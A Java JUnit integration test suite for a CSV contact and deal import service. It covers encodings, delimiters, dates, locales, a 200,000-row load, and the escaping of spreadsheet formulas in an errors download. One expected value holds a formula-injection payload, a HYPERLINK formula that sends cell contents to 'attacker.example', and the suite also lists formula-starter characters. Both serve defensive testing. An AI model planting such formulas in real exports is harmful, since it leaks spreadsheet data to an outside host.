package dev.intake.it.cases;

import static dev.intake.it.cases.Jobs.assertCounts;
import static dev.intake.it.cases.Jobs.errors;
import static dev.intake.it.cases.Jobs.only;
import static dev.intake.it.cases.Jobs.values;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.intake.it.AppFixtures;
import dev.intake.it.IntakeClient;
import dev.intake.it.IntakeServer;
import dev.intake.it.SharedData;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The small failing inputs of {@code shared/data/cases}, each against the two apps of its {@code apps.json} under
 * entity keys of its own, with the outcomes its README lists; then the 200,000-row file.
 */
class CaseFilesIT {

    private static final Set<Character> FORMULA_STARTS = Set.of('=', '+', '-', '@', '\t', '\r');

    private static IntakeClient api;
    private static Map<String, JsonObject> catalogue;

    @BeforeAll
    static void server() throws Exception {
        api = IntakeServer.shared().client();
        catalogue = AppJson.catalogue(SharedData.cases("apps.json"));
    }

    @Test
    void readsTheFirstHeaderDespiteAByteOrderMarkAndUpdatesTheContactThatExisted(@TempDir Path dir)
            throws Exception {
        String contacts = defineApp("contact");
        assertCounts(importText(contacts, dir, "email,first_name\nana.lima@example.com,Old\n", null), 1, 1, 0, 0);

        JsonObject job = importCase(contacts, "01_bom_header.csv", null);

        assertCounts(job, 2, 1, 1, 0);
        List<Map<String, String>> records = api.records(contacts);
        assertEquals(2, records.size());
        Map<String, String> ana = only(records, "email", "ana.lima@example.com");
        assertEquals("Ana", ana.get("first_name"));
        assertEquals("Lima", ana.get("last_name"));
        assertEquals("Chen", only(records, "email", "bo.chen@example.org").get("last_name"));
    }

    @Test
    void detectsTheSemicolonAndKeepsTheCommaInsideAValue() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "02_semicolon.csv", null);

        assertCounts(job, 2, 2, 0, 0);
        List<Map<String, String>> records = api.records(contacts);
        assertEquals("Costa & Filhos, Lda", only(records, "email", "rui.costa@example.com").get("company"));
        assertEquals("Berg AB", only(records, "email", "mia.berg@example.net").get("company"));
    }

    @Test
    void keepsLineBreaksCommasAndDoubledQuotesOfQuotedValues() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "03_multiline_quoted.csv", null);

        assertCounts(job, 2, 2, 0, 0);
        List<Map<String, String>> records = api.records(contacts);
        Map<String, String> lea = only(records, "email", "lea.roux@example.com");
        assertEquals("Roux, Léa", lea.get("name"));
        assertEquals("Met at fair.\nFollow up in Q3, ask about \"Pro\" plan.", lea.get("notes"));
        assertEquals("Tom Ek", only(records, "email", "tom.ek@example.com").get("name"));
    }

    @Test
    void namesThePhysicalLineOfTheRowAfterAMultilineValue() throws Exception {
        String contacts = defineApp(AppJson.withField(catalogue.get("contact"), "notes",
                notes -> notes.add("required", true)), "contact");

        JsonObject job = importCase(contacts, "03_multiline_quoted.csv", null);

        assertCounts(job, 2, 1, 0, 1);
        assertEquals(List.of("4 REQUIRED_VALUE_MISSING notes="), errors(job));
    }

    @Test
    void ignoresBlankTrailingColumnsButFailsAValueUnderABlankHeader() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "05_trailing_empty_columns.csv", null);

        assertCounts(job, 3, 2, 0, 1);
        List<String> errors = errors(job);
        assertEquals(1, errors.size(), errors::toString);
        assertTrue(errors.get(0).startsWith("4 VALUE_IN_UNNAMED_COLUMN ") && errors.get(0).endsWith("=oops"),
                errors::toString);
        assertEquals(List.of("nia.park@example.com", "oli.west@example.com"), values(api.records(contacts), "email"));
    }

    @Test
    void matchesHeadersIgnoringCaseSurroundingSpacesAndSeparators() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "07_header_case_ws.csv", null);

        assertCounts(job, 1, 1, 0, 0);
        Map<String, String> ben = only(api.records(contacts), "email", "ben.ito@example.com");
        assertEquals("Ben", ben.get("first_name"));
        assertEquals("Ito", ben.get("last_name"));
    }

    @Test
    void skipsBlankLinesWithoutCountingThem() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "08_empty_lines.csv", null);

        assertCounts(job, 2, 2, 0, 0);
        assertEquals(List.of("cat.lo@example.com", "dan.mu@example.com"), values(api.records(contacts), "email"));
    }

    @Test
    void namesThePhysicalLineOfARowAfterABlankLine() throws Exception {
        String contacts = defineApp(AppJson.withField(catalogue.get("contact"), "first_name",
                firstName -> firstName.add("type", "NUMBER").remove("maxLength")), "contact");

        JsonObject job = importCase(contacts, "08_empty_lines.csv", null);

        assertCounts(job, 2, 0, 0, 2);
        assertEquals(List.of("2 INVALID_NUMBER first_name=Cat", "4 INVALID_NUMBER first_name=Dan"), errors(job));
    }

    @Test
    void readsIsoAndDayFirstDatesAndRefusesDatesThatDoNotExist() throws Exception {
        String deals = defineApp("deal");

        JsonObject job = importCase(deals, "09_dates.csv", options("dateFormat", "dd/MM/yyyy"));

        assertCounts(job, 5, 3, 0, 2);
        assertEquals(List.of("5 INVALID_DATE close_date=2024-02-30", "6 INVALID_DATE close_date=03/13/2024"),
                errors(job));
        List<Map<String, String>> records = api.records(deals);
        assertEquals(List.of("D-1", "D-2", "D-3"), values(records, "external_id"));
        assertEquals("2024-03-05", only(records, "external_id", "D-1").get("close_date"));
        assertEquals("2024-03-05", only(records, "external_id", "D-2").get("close_date"));
        assertEquals("2024-03-13", only(records, "external_id", "D-3").get("close_date"));
        assertEquals("800", only(records, "external_id", "D-2").get("amount"));
    }

    @Test
    void readsGermanNumbersWithTheDeDeLocale() throws Exception {
        String deals = defineApp("deal");

        JsonObject job = importCase(deals, "10_decimal_comma.csv", options("locale", "de-DE"));

        assertCounts(job, 4, 3, 0, 1);
        assertEquals(List.of("5 INVALID_NUMBER amount=12.5.3"), errors(job));
        List<Map<String, String>> records = api.records(deals);
        assertEquals("1234.56", only(records, "external_id", "D-10").get("amount"));
        assertEquals("13.75", only(records, "external_id", "D-11").get("amount"));
        assertEquals("1000", only(records, "external_id", "D-12").get("amount"));
    }

    @Test
    void neverReadsADecimalCommaAsAThousandsSeparatorInEnUs() throws Exception {
        String deals = defineApp("deal");

        JsonObject job = importCase(deals, "10_decimal_comma.csv", options("locale", "en-US"));

        assertCounts(job, 4, 1, 0, 3);
        assertEquals(List.of("2 INVALID_NUMBER amount=1.234,56", "3 INVALID_NUMBER amount=13,75",
                "5 INVALID_NUMBER amount=12.5.3"), errors(job));
        List<Map<String, String>> records = api.records(deals);
        assertEquals(List.of("1000"), values(records, "amount"));
        assertFalse(records.stream().anyMatch(record -> "1375".equals(record.get("amount"))), records::toString);
    }

    @Test
    void detectsWindows1252AndSaysSo() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "12_windows1252.csv", null);

        assertCounts(job, 2, 2, 0, 0);
        assertWindows1252(job.getString("encoding"));
        assertUmlautsKept(contacts);
    }

    @Test
    void readsWindows1252WhenTheEncodingOptionSaysSo() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "12_windows1252.csv", options("encoding", "windows-1252"));

        assertCounts(job, 2, 2, 0, 0);
        assertWindows1252(job.getString("encoding"));
        assertUmlautsKept(contacts);
    }

    @Test
    void appliesRowsWithTheSameKeyInFileOrder() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "13_duplicate_key_in_file.csv", null);

        assertCounts(job, 3, 2, 1, 0);
        List<Map<String, String>> records = api.records(contacts);
        assertEquals(2, records.size());
        Map<String, String> fay = only(records, "email", "fay.wu@example.com");
        assertEquals("Wu-Berg", fay.get("last_name"));
        assertEquals("+1 555 0100", fay.get("phone"));
        assertEquals("+46 8 123 456", only(records, "email", "gus.lind@example.com").get("phone"));
    }

    @Test
    void matchesEmailsIgnoringCaseAndSurroundingSpaces(@TempDir Path dir) throws Exception {
        String contacts = defineApp("contact");
        assertCounts(importText(contacts, dir, "email\nhana.kim@example.com\nian.roe@example.com\n", null),
                2, 2, 0, 0);

        JsonObject job = importCase(contacts, "14_email_case.csv", null);

        assertCounts(job, 2, 0, 2, 0);
        List<Map<String, String>> records = api.records(contacts);
        assertEquals(List.of("hana.kim@example.com", "ian.roe@example.com"), values(records, "email"));
        assertEquals("CTO", only(records, "email", "hana.kim@example.com").get("job_title"));
        assertEquals("Buyer", only(records, "email", "ian.roe@example.com").get("job_title"));
    }

    @Test
    void storesFormulasVerbatimButNeutralisesThemInTheErrorsDownload() throws Exception {
        String contacts = defineApp("contact");

        JsonObject job = importCase(contacts, "15_formula_injection.csv", null);

        assertCounts(job, 2, 1, 0, 1);
        assertEquals(List.of("2 INVALID_EMAIL email=not-an-email"), errors(job));
        Map<String, String> jo = only(api.records(contacts), "email", "jo.li@example.com");
        assertEquals("+SUM(1;2)", jo.get("first_name"));
        assertEquals("@Corp", jo.get("company"));

        List<List<String>> download = errorsCsv(job.getString("importId"));
        assertEquals(2, download.size(), download::toString);
        assertEquals(List.of("email", "first_name", "company", "Error"), download.get(0));
        List<String> failed = download.get(1);
        assertEquals(List.of("not-an-email", "'=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"open\")", "Acme"),
                failed.subList(0, 3));
        assertTrue(failed.get(3).contains("INVALID_EMAIL"), failed::toString);
        assertNoCellRunsAsAFormula(download);
    }

    @Test
    void neutralisesEveryFormulaStarterInTheErrorsDownloadWhileTheApiKeepsRawValues(@TempDir Path dir)
            throws Exception {
        String contacts = defineApp("contact");
        String text = "email,first_name,last_name,company,job_title,city\n"
                + "=1+1,+plus,-minus,@at,\"\ttab\",plain\n"
                + "ok@example.com,-Ok,@Ok,+Ok,=Ok,\tOk\n"
                + "-x@,plain,,,,\"\rcarriage\"\n";

        JsonObject job = importText(contacts, dir, text, null);

        assertCounts(job, 3, 1, 0, 2);
        assertEquals(List.of("2 INVALID_EMAIL email==1+1", "4 INVALID_EMAIL email=-x@"), errors(job));
        Map<String, String> ok = only(api.records(contacts), "email", "ok@example.com");
        assertEquals(List.of("-Ok", "@Ok", "+Ok", "=Ok", "\tOk"), List.of(ok.get("first_name"), ok.get("last_name"),
                ok.get("company"), ok.get("job_title"), ok.get("city")));

        List<List<String>> download = errorsCsv(job.getString("importId"));
        assertEquals(3, download.size(), download::toString);
        assertEquals(List.of("'=1+1", "'+plus", "'-minus", "'@at", "'\ttab", "plain"),
                download.get(1).subList(0, 6));
        assertEquals(List.of("'-x@", "plain", "", "", "", "'\rcarriage"), download.get(2).subList(0, 6));
        assertNoCellRunsAsAFormula(download);
    }

    @Test
    void acceptsTwoHundredThousandRowsAtOnceAndUpdatesThemWhenSentAgain(@TempDir Path dir) throws Exception {
        int rows = 200_000;
        String contacts = defineApp("contact");
        Path file = dir.resolve("contacts-200k.csv");
        StringBuilder text = new StringBuilder(rows * 48).append("email,first_name,last_name,city\n");
        for (int i = 1; i <= rows; i++) {
            text.append("bulk").append(i).append("@example.com,First").append(i).append(",Last").append(i)
                    .append(",City ").append(i % 97).append('\n');
        }
        Files.writeString(file, text);

        JsonObject first = importFollowingCounters(contacts, file);
        assertCounts(first, rows, rows, 0, 0);
        assertEquals(rows, recordCount(contacts));

        JsonObject second = importFollowingCounters(contacts, file);
        assertCounts(second, rows, 0, rows, 0);
        assertEquals(rows, recordCount(contacts));
    }

    /**
     * Starts an import, checks that the mutation answered before the rows were applied, then polls: the counters
     * only grow, always add up, and are seen moving while the job runs. Answers the finished job.
     */
    private static JsonObject importFollowingCounters(String entity, Path file) throws Exception {
        JsonObject answer = IntakeClient.json(api.upload(entity, null, file, null));
        assertFalse(answer.containsKey("errors"), answer::toString);
        JsonObject started = answer.getJsonObject("data").getJsonObject("importEntities");
        assertTrue(Set.of("QUEUED", "RUNNING").contains(started.getString("status")), started::toString);
        String importId = started.getString("importId");

        JsonObject previous = null;
        boolean seenMoving = false;
        long deadline = System.nanoTime() + Duration.ofMinutes(10).toNanos();
        while (System.nanoTime() < deadline) {
            JsonObject job = counters(importId);
            int processed = job.getInt("processed");
            assertEquals(processed, job.getInt("added") + job.getInt("updated") + job.getInt("failed"),
                    () -> "processed = added + updated + failed at every moment: " + job);
            if (previous != null) {
                for (String counter : List.of("processed", "added", "updated", "failed")) {
                    assertTrue(job.getInt(counter) >= previous.getInt(counter),
                            counter + " went down from " + previous + " to " + job);
                }
            }
            String status = job.getString("status");
            if (!status.equals("QUEUED") && !status.equals("RUNNING")) {
                assertTrue(seenMoving, "counters were never seen between 0 and the end while the job ran");
                return api.job(importId);
            }
            seenMoving |= processed > 0 && status.equals("RUNNING");
            previous = job;
            Thread.sleep(250);
        }
        throw new AssertionError("Import " + importId + " did not end within 10 minutes");
    }

    private static JsonObject counters(String importId) throws Exception {
        return api.data("query($id: ID!) { importJob(importId: $id) { status processed added updated failed } }",
                Json.createObjectBuilder().add("id", importId).build()).getJsonObject("importJob");
    }

    private static int recordCount(String entity) throws Exception {
        return api.data("query($e: String!) { records(entity: $e, first: 1) { total } }",
                Json.createObjectBuilder().add("e", entity).build()).getJsonObject("records").getInt("total");
    }

    /** Defines the app of {@code apps.json} called {@code name} under a fresh entity key; answers that key. */
    private static String defineApp(String name) throws Exception {
        return defineApp(catalogue.get(name), name);
    }

    private static String defineApp(JsonObject app, String prefix) throws Exception {
        String entity = AppFixtures.uniqueEntity(prefix);
        api.defineApp(AppJson.withEntity(app, entity));
        return entity;
    }

    private static JsonObject importCase(String entity, String caseFile, JsonObject options) throws Exception {
        return api.importAndWait(entity, SharedData.cases(caseFile), options);
    }

    private static JsonObject importText(String entity, Path dir, String text, JsonObject options)
            throws Exception {
        Path file = Files.createTempFile(dir, "before-", ".csv");
        Files.writeString(file, text);
        return api.importAndWait(entity, file, options);
    }

    private static JsonObject options(String name, String value) {
        return Json.createObjectBuilder().add(name, value).build();
    }

    private static void assertWindows1252(String encoding) {
        String name = encoding == null ? "" : encoding.toLowerCase(Locale.ROOT);
        assertTrue(Set.of("windows-1252", "cp1252").contains(name), "encoding reported: " + encoding);
    }

    private static void assertUmlautsKept(String contacts) throws Exception {
        List<Map<String, String>> records = api.records(contacts);
        Map<String, String> unal = only(records, "email", "unal.ozil@example.de");
        assertEquals("Özil", unal.get("last_name"));
        assertEquals("Ünal", unal.get("first_name"));
        assertEquals("Köln", unal.get("city"));
        Map<String, String> eva = only(records, "email", "eva.maerz@example.de");
        assertEquals("März", eva.get("last_name"));
        assertEquals("Düsseldorf", eva.get("city"));
    }

    private static List<List<String>> errorsCsv(String importId) throws Exception {
        URI uri = IntakeServer.shared().baseUri().resolve("/api/imports/" + importId + "/errors.csv");
        HttpRequest request = HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + IntakeServer.ADMIN_TOKEN).GET().build();
        HttpResponse<String> response = HttpClient.newHttpClient().send(request,
                HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        assertEquals(200, response.statusCode(), response::body);
        assertTrue(response.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"),
                () -> "Content-Type " + response.headers().map());
        return CsvCells.parse(response.body());
    }

    private static void assertNoCellRunsAsAFormula(List<List<String>> rows) {
        for (List<String> row : rows) {
            for (String cell : row) {
                assertFalse(!cell.isEmpty() && FORMULA_STARTS.contains(cell.charAt(0)),
                        () -> "cell " + escape(cell) + " would run as a formula in row " + row);
            }
        }
    }

    private static String escape(String cell) {
        return "'" + cell.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + "'";
    }
}
